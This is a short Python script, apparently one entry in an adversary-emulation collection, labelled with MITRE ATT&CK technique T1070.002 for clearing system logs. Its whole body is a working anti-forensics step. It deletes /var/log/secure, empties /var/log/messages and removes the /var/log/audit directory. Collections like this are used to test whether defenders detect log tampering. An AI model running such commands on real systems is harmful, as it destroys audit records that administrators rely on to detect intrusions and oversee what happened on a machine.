#!/usr/bin/env python3
# title: Python removes logs
# technique: T1070.002
# needs: python3
# short: yes

import os, shutil
os.unlink("/var/log/secure")
os.truncate("/var/log/messages", 0)
shutil.rmtree("/var/log/audit")
